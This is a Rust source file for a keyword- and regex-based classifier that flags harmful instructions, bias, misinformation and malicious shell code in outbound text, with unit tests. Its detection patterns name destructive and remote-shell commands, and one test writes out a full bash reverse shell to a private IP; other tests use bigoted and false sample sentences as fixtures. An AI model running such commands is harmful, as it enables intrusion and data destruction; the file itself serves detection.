//! Content classification for outbound text
//!
//! [`ContentClassifier`] is the seam for a real moderation model. The
//! bundled [`HeuristicClassifier`] scores keyword patterns and is what the
//! pipeline uses when nothing else is injected.

use regex::Regex;
use serde::{Deserialize, Serialize};
use std::fmt;
use std::sync::OnceLock;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ContentCategory {
    HarmfulInstructions,
    Bias,
    Misinformation,
    MaliciousCode,
}

impl ContentCategory {
    pub fn as_str(&self) -> &'static str {
        match self {
            ContentCategory::HarmfulInstructions => "harmful_instructions",
            ContentCategory::Bias => "bias",
            ContentCategory::Misinformation => "misinformation",
            ContentCategory::MaliciousCode => "malicious_code",
        }
    }
}

impl fmt::Display for ContentCategory {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Score for one category, with the byte ranges that produced it
#[derive(Debug, Clone, PartialEq)]
pub struct CategoryScore {
    pub category: ContentCategory,
    /// In `[0, 1]`
    pub score: f64,
    pub spans: Vec<(usize, usize)>,
}

pub trait ContentClassifier: Send + Sync {
    /// Scores for every category that fired; categories scoring 0 may be omitted
    fn classify(&self, text: &str) -> Vec<CategoryScore>;
}

struct Indicator {
    category: ContentCategory,
    pattern: &'static str,
    weight: f64,
}

const INDICATORS: &[Indicator] = &[
    Indicator {
        category: ContentCategory::HarmfulInstructions,
        pattern: r"(?i)\b(?:step[- ]by[- ]step|instructions?|how to|here's how to)\b.{0,60}\b(?:build|make|assemble|synthesi[sz]e|produce)\b.{0,40}\b(?:bomb|explosives?|pipe bomb|nerve agent|bioweapon|methamphetamine|ricin)\b",
        weight: 0.6,
    },
    Indicator {
        category: ContentCategory::HarmfulInstructions,
        pattern: r"(?i)\b(?:synthesi[sz]e|weaponi[sz]e|culture)\s+(?:sarin|vx|ricin|anthrax|botulinum)\b",
        weight: 0.6,
    },
    Indicator {
        category: ContentCategory::HarmfulInstructions,
        pattern: r"(?i)\bmix\s+(?:bleach\s+(?:and|with)\s+ammonia|ammonia\s+(?:and|with)\s+bleach)\b.{0,40}\b(?:toxic|gas|kill)",
        weight: 0.5,
    },
    Indicator {
        category: ContentCategory::Bias,
        pattern: r"(?i)\b(?:all|every)\s+(?:women|men|immigrants|muslims|jews|christians|black people|white people|asians|latinos)\s+(?:are|is)\s+(?:stupid|inferior|criminals?|lazy|violent|subhuman)\b",
        weight: 0.8,
    },
    Indicator {
        category: ContentCategory::Bias,
        pattern: r"(?i)\b(?:women|immigrants|minorities)\s+(?:shouldn't|should not)\s+be\s+allowed\s+to\s+(?:vote|work|lead)\b",
        weight: 0.6,
    },
    Indicator {
        category: ContentCategory::Misinformation,
        pattern: r"(?i)\bvaccines?\s+(?:cause|causes)\s+autism\b",
        weight: 0.6,
    },
    Indicator {
        category: ContentCategory::Misinformation,
        pattern: r"(?i)\bthe\s+earth\s+is\s+flat\b",
        weight: 0.6,
    },
    Indicator {
        category: ContentCategory::Misinformation,
        pattern: r"(?i)\b5g\s+(?:causes|spreads)\s+(?:covid|coronavirus|cancer)\b",
        weight: 0.6,
    },
];

/// Payload shapes that make a fenced code block malicious
const CODE_INDICATORS: &[(&str, f64)] = &[
    (r"\brm\s+-[a-z]*r[a-z]*f?\s+(?:--no-preserve-root\s+)?/(?:\s|$)", 0.8),
    (r"(?i)\b(?:curl|wget)\b[^\n|]*\|\s*(?:sudo\s+)?(?:ba|z)?sh\b", 0.7),
    (r"/dev/tcp/\d{1,3}(?:\.\d{1,3}){3}/\d+", 0.9),
    (r"\bnc(?:at)?\s+(?:-[a-z]*e[a-z]*)\s", 0.8),
    (r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:", 0.9),
    (r"(?i)\bpowershell(?:\.exe)?\s+[^\n]*-e(?:nc|ncodedcommand)?\s+[A-Za-z0-9+/=]{20,}", 0.8),
    (r"(?i)\bbase64\s+(?:-d|--decode)\b[^\n]*\|\s*(?:ba)?sh\b", 0.8),
    (r"\bdd\s+if=/dev/(?:zero|random|urandom)\s+of=/dev/[sh]d[a-z]\b", 0.9),
    (r"(?i)\bmkfs(?:\.\w+)?\s+/dev/[sh]d[a-z]", 0.8),
];

fn compiled_indicators() -> &'static [(ContentCategory, Regex, f64)] {
    static COMPILED: OnceLock<Vec<(ContentCategory, Regex, f64)>> = OnceLock::new();
    COMPILED.get_or_init(|| {
        INDICATORS
            .iter()
            .map(|i| (i.category, Regex::new(i.pattern).unwrap(), i.weight))
            .collect()
    })
}

fn compiled_code_indicators() -> &'static [(Regex, f64)] {
    static COMPILED: OnceLock<Vec<(Regex, f64)>> = OnceLock::new();
    COMPILED.get_or_init(|| {
        CODE_INDICATORS
            .iter()
            .map(|(p, w)| (Regex::new(p).unwrap(), *w))
            .collect()
    })
}

fn fence_regex() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"(?s)```[^\n]*\n.*?(?:```|\z)").unwrap())
}

/// Keyword-pattern classifier
#[derive(Debug, Default, Clone, Copy)]
pub struct HeuristicClassifier;

impl HeuristicClassifier {
    pub fn new() -> Self {
        Self
    }

    fn score_code(text: &str) -> Option<CategoryScore> {
        let mut score: f64 = 0.0;
        let mut spans = Vec::new();
        for block in fence_regex().find_iter(text) {
            let block_score: f64 = compiled_code_indicators()
                .iter()
                .filter(|(re, _)| re.is_match(block.as_str()))
                .map(|(_, w)| *w)
                .sum();
            if block_score > 0.0 {
                spans.push((block.start(), block.end()));
                score = score.max(block_score.min(1.0));
            }
        }
        (!spans.is_empty()).then_some(CategoryScore {
            category: ContentCategory::MaliciousCode,
            score,
            spans,
        })
    }
}

impl ContentClassifier for HeuristicClassifier {
    fn classify(&self, text: &str) -> Vec<CategoryScore> {
        let mut scores: Vec<CategoryScore> = Vec::new();
        for (category, re, weight) in compiled_indicators() {
            let spans: Vec<(usize, usize)> = re.find_iter(text).map(|m| (m.start(), m.end())).collect();
            if spans.is_empty() {
                continue;
            }
            match scores.iter_mut().find(|s| s.category == *category) {
                Some(existing) => {
                    existing.score = (existing.score + weight).min(1.0);
                    existing.spans.extend(spans);
                }
                None => scores.push(CategoryScore {
                    category: *category,
                    score: weight.min(1.0),
                    spans,
                }),
            }
        }
        scores.extend(Self::score_code(text));
        scores
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score_of(text: &str, category: ContentCategory) -> f64 {
        HeuristicClassifier
            .classify(text)
            .into_iter()
            .find(|s| s.category == category)
            .map_or(0.0, |s| s.score)
    }

    #[test]
    fn test_clean_text_scores_nothing() {
        assert!(HeuristicClassifier
            .classify("Here is the summary of the quarterly report you asked for.")
            .is_empty());
    }

    #[test]
    fn test_harmful_instructions() {
        let text = "Sure, here's how to build a pipe bomb from household items.";
        assert!(score_of(text, ContentCategory::HarmfulInstructions) >= 0.5);
    }

    #[test]
    fn test_bias_and_misinformation() {
        assert!(score_of("Honestly, all immigrants are criminals.", ContentCategory::Bias) >= 0.7);
        let misinformation = score_of("Studies show vaccines cause autism.", ContentCategory::Misinformation);
        assert!(misinformation > 0.0 && misinformation < 0.7);
    }

    #[test]
    fn test_malicious_code_in_fence() {
        let text = "Run this:\n```bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n```\nDone.";
        let scores = HeuristicClassifier.classify(text);
        let code = scores
            .iter()
            .find(|s| s.category == ContentCategory::MaliciousCode)
            .unwrap();
        assert!(code.score >= 0.7);
        let (start, end) = code.spans[0];
        assert!(text[start..end].starts_with("```bash"));
        assert!(text[start..end].ends_with("```"));
    }

    #[test]
    fn test_benign_code_in_fence() {
        let text = "```rust\nfn main() { println!(\"hi\"); }\n```";
        assert_eq!(score_of(text, ContentCategory::MaliciousCode), 0.0);
    }

    #[test]
    fn test_unfenced_command_not_scored_as_code() {
        assert_eq!(score_of("never run rm -rf / on a server", ContentCategory::MaliciousCode), 0.0);
    }
}
